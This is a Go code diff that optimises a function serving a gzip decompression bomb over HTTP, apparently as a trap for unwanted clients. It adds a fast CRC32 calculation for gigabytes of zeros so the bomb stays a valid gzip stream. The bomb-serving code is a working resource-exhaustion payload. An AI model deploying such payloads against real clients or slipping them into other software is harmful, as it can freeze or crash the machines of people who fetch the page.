@@ -534,6 +534,37 @@ func packedZeros(z packer, out *bytes.Buffer) (first, next []byte, err error) {
 	return first, out.Bytes(), nil
 }
 
+// bombSum is the checksum of so many zeros, of which there are 10 GB: to read them for every bomb would cost the one who throws it more
+// than the one it is thrown at. The sum of twice as many zeros follows from that of the half: it is the same table of 32 shifts, squared.
+func bombSum(size int) uint32 {
+	var shift [32]uint32 // what one zero bit makes of each bit of the register
+	shift[0] = crc32.IEEE
+	for i := 1; i < 32; i++ {
+		shift[i] = 1 << (i - 1)
+	}
+	sum := ^uint32(0)
+	for bits := 8 * size; bits > 0; bits >>= 1 {
+		if bits&1 == 1 {
+			sum = shiftBy(&shift, sum)
+		}
+		var twice [32]uint32
+		for i := range twice {
+			twice[i] = shiftBy(&shift, shift[i])
+		}
+		shift = twice
+	}
+	return ^sum
+}
+
+func shiftBy(shift *[32]uint32, register uint32) (sum uint32) {
+	for i := range shift {
+		if register>>i&1 == 1 {
+			sum ^= shift[i]
+		}
+	}
+	return sum
+}
+
 // gzipBomb writes the same packed megabyte over and over, which is a valid gzip stream with a right checksum.
 func gzipBomb(s *stage, size int) error {
 	var packed bytes.Buffer
@@ -548,7 +579,6 @@ func gzipBomb(s *stage, size int) error {
 	if err := s.say(htmlHead + "Content-Encoding: gzip\r\n\r\n" + gzipHead); err != nil {
 		return err
 	}
-	sum := uint32(0)
 	for i := range size / len(megabyte) {
 		piece := next
 		if i == 0 {
@@ -557,9 +587,8 @@ func gzipBomb(s *stage, size int) error {
 		if _, err := s.Write(piece); err != nil {
 			return err
 		}
-		sum = crc32.Update(sum, crc32.IEEETable, megabyte[:])
 	}
-	tail := binary.LittleEndian.AppendUint32([]byte{3, 0}, sum)            // an empty last block of fixed codes, then the checksum
+	tail := binary.LittleEndian.AppendUint32([]byte{3, 0}, bombSum(size))  // an empty last block of fixed codes, then the checksum
 	_, err = s.Write(binary.LittleEndian.AppendUint32(tail, uint32(size))) // the size counts modulo 2^32
 	return err
 }
